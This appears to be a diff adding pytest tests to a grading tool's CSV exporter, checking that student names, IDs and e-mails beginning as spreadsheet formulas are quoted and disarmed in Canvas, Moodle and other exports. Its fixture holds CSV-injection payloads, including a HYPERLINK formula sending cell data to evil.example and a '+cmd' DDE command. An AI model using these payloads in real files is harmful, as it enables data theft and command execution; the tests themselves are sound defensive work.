@@ -154,3 +154,101 @@ def test_canvas_template_says_which_columns_it_has(graded_course, tmp_path):
         export(course, tmp_path / "x.csv", "canvas", template=template, maps=parse_maps([f"{A1}=Essay (9)"]))
     with pytest.raises(ValueError, match="expected ASSIGNMENT_ID="):
         parse_maps(["just a title"])
+
+
+# ---- no cell is a formula, and the LMSs still match every student ----
+
+HOSTILE_ROSTER = '''id,first_name,last_name,email,lms_user_id
+jdoe,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",@SUM(1+1),jane.doe@uni.example,101
+-2+3,+cmd|' /C calc'!A0,Smith,john.smith@uni.example,102
+mallory,Mal,"\tTab",-mallory@uni.example,103
+'''
+
+
+@pytest.fixture(scope="module")
+def hostile_course(course, tmp_path_factory):
+    """Students whose names, id and e-mail (as a roster or Moodle gives them) begin as formulas;
+    all three graded."""
+    tmp = tmp_path_factory.mktemp("hostile")
+    (tmp / "roster.csv").write_text(HOSTILE_ROSTER)
+    with open_batch(course, tmp) as batch:
+        import_roster(batch.course, tmp / "roster.csv")
+        batch.prepare()
+        template = grade_without_kernel(submission_file(course, tmp, "template"), batch)
+        for student in ("jdoe", "-2+3", "mallory"):
+            pipeline.record(dataclasses.replace(template, student=student), batch)
+        return batch.course, template.score
+
+
+@pytest.mark.parametrize("fmt", ["long", "wide", "canvas", "moodle"])
+def test_no_cell_of_an_export_is_a_formula(hostile_course, tmp_path, fmt):
+    from grader.csv_cells import is_formula
+    course, _ = hostile_course
+    rows, _ = _rows(course, fmt, tmp_path)
+    live = [cell for row in rows for cell in row if is_formula(cell)]
+    assert not live, f"{fmt}: cells a spreadsheet would run: {live}"
+    text = "\n".join(",".join(row) for row in rows)
+    assert "'-2+3" in text or fmt == "moodle", "the disarmed text is still there to read"
+
+
+def test_canvas_still_matches_every_student_by_id(hostile_course, tmp_path):
+    """Canvas's importer takes a row's student from its ID column (canvas-lms gradebook_importer.rb,
+    process_student: row[1].to_i), before SIS ids or the name: the ID is digits, never quoted."""
+    course, score = hostile_course
+    rows, _ = _rows(course, "canvas", tmp_path)
+    by_id = {row[1]: row for row in rows[2:]}
+    assert set(by_id) == {"101", "102", "103"}
+    assert all(float(row[5]) == score for row in by_id.values())
+    assert by_id["101"][0] == "'@SUM(1+1), =HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+    assert by_id["102"][3] == "'-2+3", "SIS Login ID is quoted; Canvas matched the row by ID already"
+
+
+def test_moodle_still_matches_by_email_and_names_whom_it_cannot(hostile_course, tmp_path):
+    """Moodle's import matches the mapped column (Email address) by equality: e-mails are written
+    as they are, and a student whose e-mail would need the quote is left out and named."""
+    course, score = hostile_course
+    rows, notes = _rows(course, "moodle", tmp_path)
+    roster = {"jane.doe@uni.example": "jdoe", "john.smith@uni.example": "-2+3"}
+    assert {row[2]: roster.get(row[2]) for row in rows[1:]} == roster, "every row matches one roster e-mail"
+    hyperlink = "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+    assert sorted(row[:2] for row in rows[1:]) == [["'+cmd|' /C calc'!A0", "Smith"], [hyperlink, "'@SUM(1+1)"]]
+    assert any(note.startswith("left out, an e-mail address a spreadsheet would run") and note.endswith(": mallory")
+               for note in notes), notes
+
+
+def test_long_and_wide_read_back_to_the_roster_ids(hostile_course, tmp_path):
+    course, _ = hostile_course
+    for fmt in ("long", "wide"):
+        rows, _ = _rows(course, fmt, tmp_path)
+        assert sorted(row[0].removeprefix("'") for row in rows[1:]) == ["-2+3", "jdoe", "mallory"]
+
+
+@pytest.mark.parametrize("value, written", [
+    ("-3.5", "-3.5"), ("+2", "+2"), ("1e-3", "1e-3"), ("-1E+5", "-1E+5"), (-3.5, -3.5), ("EX", "EX"), ("", ""),
+    ("-1+1", "'-1+1"), ("=1+1", "'=1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("+cmd", "'+cmd"), ("\t=1", "'\t=1"),
+    ("\rx", "'\rx"), ("-", "'-"), ("jane@uni.example", "jane@uni.example"),
+])
+def test_a_cell_is_quoted_only_where_a_spreadsheet_would_run_it(value, written):
+    from grader.csv_cells import safe_cell
+    assert safe_cell(value) == written
+
+
+def test_canvas_template_disarms_formulas_and_keeps_every_other_byte(hostile_course, tmp_path):
+    from grader.canvas_template import parse_maps
+    course, score = hostile_course
+    gradebook = "\r\n".join([
+        "Student,ID,SIS User ID,SIS Login ID,Section,Assignment 1 (12345),Quiz 1 (222)",
+        "    Points Possible,,,,,18.00,10.00",
+        '"=HYPERLINK(""http://evil.example/"")",101,S1,jdoe,A,,-3.5',
+        'Other,777,S9,aother,A,,4.00',
+        '@evil,778,S8,evil,A,,4.00',
+    ]) + "\r\n"
+    template = tmp_path / "canvas-gradebook.csv"
+    template.write_bytes(gradebook.encode())
+    path, _, _ = export(course, tmp_path / "filled.csv", "canvas", template=template,
+                        maps=parse_maps([f'{A1}="Assignment 1 (12345)"']))
+    after = path.read_bytes().decode().split("\r\n")
+    before = gradebook.split("\r\n")
+    assert after[:2] == before[:2] and after[3] == before[3], "rows without a formula keep every byte"
+    assert after[2] == f'"\'=HYPERLINK(""http://evil.example/"")",101,S1,jdoe,A,{score:g},-3.5'
+    assert after[4] == "'@evil,778,S8,evil,A,,4.00", "a row not graded here is disarmed too"
